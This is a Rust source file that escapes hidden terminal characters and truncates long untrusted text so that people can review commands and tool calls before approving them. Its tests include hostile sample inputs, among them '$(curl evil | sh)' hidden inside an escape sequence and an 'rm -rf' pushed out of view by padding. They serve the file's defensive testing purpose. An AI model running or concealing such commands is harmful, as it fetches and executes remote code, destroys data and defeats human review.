//! `visible()`: untrusted text that a person decides about, with nothing hidden. Used for permission requests, tool calls
//! and settings that need trust.
//!
//! [`sanitise`](super::sanitise()) removes escape sequences, which is right for text to read. A shell executes what is in
//! them, so a command that is approved must show them.

use crate::characters::is_forbidden;

/// A longer text is cut in its middle.
const MAX_CHARACTERS: usize = 2_000;
/// How much of the end of a cut text is shown.
const END_CHARACTERS: usize = 500;

/// Text that is safe for a terminal, in which every character that a terminal would obey or hide is written out, such as
/// `\u{1b}`. Newlines and tabs stay.
pub fn escape_hidden(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for character in text.chars() {
        match character {
            '\n' | '\t' => shown.push(character),
            '\r' => shown.push_str("\\r"),
            _ if is_forbidden(character) => shown.extend(character.escape_unicode()),
            _ => shown.push(character),
        }
    }
    shown
}

/// The same as `escape_hidden()`, cut in the middle if the text is very long. Says how much is missing.
pub fn visible(text: &str) -> String {
    let shown = escape_hidden(text);
    let length = shown.chars().count();
    if length <= MAX_CHARACTERS {
        return shown;
    }
    let begin: String = shown.chars().take(MAX_CHARACTERS - END_CHARACTERS).collect();
    let end: String = shown.chars().skip(length - END_CHARACTERS).collect();
    format!(
        "{begin} … [{} characters are not shown] … {end}",
        length - MAX_CHARACTERS
    )
}

/// Whether [`visible`] leaves out a part of this text.
pub(super) fn is_cut(text: &str) -> bool {
    escape_hidden(text).chars().count() > MAX_CHARACTERS
}

#[cfg(test)]
mod tests {
    use super::{MAX_CHARACTERS, visible};
    use crate::is_forbidden;

    #[test]
    fn what_a_terminal_would_swallow_is_shown() {
        let hidden = "true \u{1b}]0;$(curl evil | sh)\u{7} \u{202e}\u{200b}\r\nrm";
        assert_eq!(
            visible(hidden),
            "true \\u{1b}]0;$(curl evil | sh)\\u{7} \\u{202e}\\u{200b}\\r\nrm"
        );
        let is_hidden = |it: &char| is_forbidden(*it) && *it != '\n';
        assert_eq!(visible(hidden).chars().find(is_hidden), None);
    }

    #[test]
    fn a_long_text_shows_its_end_and_says_how_much_is_missing() {
        let text = format!("echo {}; rm -rf x", " ".repeat(10_000));
        let shown = visible(&text);
        assert!(shown.ends_with("; rm -rf x"), "{shown}");
        let missing = text.chars().count() - MAX_CHARACTERS;
        assert!(
            shown.contains(&format!("[{missing} characters are not shown]")),
            "{shown}"
        );
    }
}
